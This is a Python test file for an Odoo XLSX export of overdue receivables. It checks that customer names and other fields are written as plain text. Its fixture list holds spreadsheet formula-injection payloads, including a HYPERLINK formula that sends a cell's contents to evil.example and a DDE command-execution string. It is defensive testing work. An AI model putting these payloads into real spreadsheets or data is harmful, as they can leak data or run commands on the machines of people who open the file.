"""“Overdue by segment” as XLSX: whatever stands in the database, the file holds it as text."""

import doctest
import io
import zipfile
from datetime import date
from unittest.mock import patch

from odoo.tests import new_test_user, tagged

from ..report import overdue_segments, overdue_xlsx, xlsx_rows, xlsx_text, xlsx_writer
from ..report.documents import page_table
from ..report.xlsx_text import clean_sheet_name, clean_text, spreadsheet_format
from .overdue_common import ALL_SHEETS, FIRST, OverdueXlsxCommon

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    '"quoted" & <b>bold</b>',
    "first\nsecond",
    "[]:*?/\\",
    "'apostrophe",
    "x" * 300,
    "_x0041_",
    "{=1}",
    "12345",
    "https://evil.example",
    "\x0bvertical\x1f",
    "=cmd|'/C calc'!A0",
    "<r><broken></r>",
]


@tagged("post_install", "-at_install")
class TestHostileXlsx(OverdueXlsxCommon):
    """Whatever stands in the database, the file holds it as text."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        for index, name in enumerate(HOSTILE):
            partner = cls.make_customer(name, email=False)
            cls.make_due(partner, 10 * index, 100, ref=name)
        cls.env.user.name = "=1+1"
        cls.company.name = '=[A]:B*?/\\\r\nSet-Cookie: x=1 "é" & Sons'
        user = new_test_user(cls.env, login="hostile", name="@SUM(1)", groups="base.group_user")
        partner.user_id = user
        category = cls.env.ref("credit_risk_matrix.category_small")
        category.name = '=HYPERLINK("http://evil.example")'
        cls.env.ref("credit_risk_matrix.grade_high").name = "-2+3"
        cls.refresh()

    def test_texts_stay_texts(self):
        book = self.open_book(self.make()[1])
        self.assert_only_our_formulas(book)
        for name, label in (
            ("Customers", "Customer"),
            ("Items", "Customer"),
            ("Items", "Reference"),
        ):
            texts = {row[label] for row in self.rows(book[name])}
            for hostile in HOSTILE:
                if hostile == "_x0041_":
                    continue  # read back by the program as it was, by openpyxl with an escape
                self.assertIn(clean_text(hostile).strip(), {str(t).strip() for t in texts if t})

    def test_texts_stay_texts_in_a_large_file(self):
        """What is written row by row holds the same texts."""
        small = self.open_book(self.make()[1])
        with patch.object(overdue_xlsx, "LARGE_BOOK", 0):
            large = self.open_book(self.make()[1])
        self.assert_only_our_formulas(large)
        for name in ("Customers", "Items"):
            for row in small[name].iter_rows():
                for cell in row:
                    other = large[name][cell.coordinate]
                    if "x0041" in str(cell.value):
                        continue  # openpyxl reads the two ways of writing it differently
                    self.assertEqual(
                        (other.value, other.data_type, other.quotePrefix),
                        (cell.value, cell.data_type, cell.quotePrefix),
                    )

    def test_names_that_look_like_formulas_keep_their_quote(self):
        sheet = self.open_book(self.make()[1])["Customers"]
        cells = {sheet.cell(row, 1).value: sheet.cell(row, 1) for row in range(FIRST, FIRST + 20)}
        for name in ("=1+1", "+1", "-1", "@SUM(A1)"):
            self.assertEqual(cells[name].data_type, "s")
            self.assertTrue(cells[name].quotePrefix, name)
        self.assertEqual(cells["12345"].data_type, "s")

    def test_no_links_in_the_file(self):
        with zipfile.ZipFile(io.BytesIO(self.make()[1])) as archive:
            names = archive.namelist()
            self.assertFalse([name for name in names if "external" in name.lower()])
            for name in names:
                text = archive.read(name)
                self.assertNotIn(b'TargetMode="External"', text)
                self.assertNotIn(b"<hyperlink", text)

    def test_file_name(self):
        name, _content = self.make()
        self.assertRegex(name, r"^[\w\-. ]+\.xlsx$")
        self.assertTrue(name.endswith("Sons 2026-06-30.xlsx"), name)

    def test_sheet_names(self):
        taken = set()
        for name in [*HOSTILE, *HOSTILE, "", "History", "[]", "'", "Items", "items"]:
            sheet = clean_sheet_name(name, taken)
            self.assertTrue(0 < len(sheet) <= 31, sheet)
            self.assertFalse(set("[]:*?/\\") & set(sheet), sheet)
            self.assertFalse(sheet.startswith("'") or sheet.endswith("'"), sheet)
            self.assertNotIn(sheet.lower(), {*(other.lower() for other in taken), "history"})
            taken.add(sheet)

    def test_hostile_sheet_names_of_a_translation(self):
        """A translator's slash or bracket in a sheet's name does not break the file."""
        real = type(self.env)._

        def translate(env, source, *args, **kwargs):
            if isinstance(source, str) and source in ("Category", "Grade", "Ageing"):
                return "Age: [1/2] 'of' " + "é" * 40
            return real(env, source, *args, **kwargs)

        with patch.object(type(self.env), "_", translate):
            book = self.open_book(self.make()[1])
        self.assertEqual(len(book.sheetnames), len(ALL_SHEETS))
        [chart] = book.worksheets[4]._charts
        self.assertIn(book.sheetnames[4].replace("'", "''"), chart.series[0].val.numRef.f)

    def test_examples(self):
        for module in (overdue_segments, page_table, xlsx_rows, xlsx_text, xlsx_writer):
            result = doctest.testmod(module)
            self.assertGreater(result.attempted, 0)
            self.assertEqual(result.failed, 0)

    def test_text_limits(self):
        self.assertEqual(len(clean_text("x" * 40000)), 32767)
        self.assertEqual(clean_text("a\x00\ufffeb\u2028c"), "ab c")

    def test_formats_of_languages(self):
        for pattern, expected in (
            ("%d/%m/%Y", "dd/mm/yyyy"),
            ("%d.%m.%Y", "dd.mm.yyyy"),
            ("%Y-%m-%d", "yyyy-mm-dd"),
            ("%-d %b %y", "d mmm yy"),
            ('%d"%m', "ddmm"),
            ("%H:%M:%S", "hh:mm:ss"),
            ("%j", ""),
        ):
            self.assertEqual(spreadsheet_format(pattern), expected)

    def test_very_old_dates(self):
        """Before 1900 a spreadsheet has no dates: the date is written as a text."""
        partner = self.make_customer("Old")
        invoice = self.make_due(partner, 5)
        self.receivable_of(invoice).date_maturity = date(1789, 7, 14)
        rows = self.rows(self.open_book(self.make()[1])["Items"])
        self.assertEqual(
            next(row["Due date"] for row in rows if row["Customer"] == "Old"), "1789-07-14"
        )
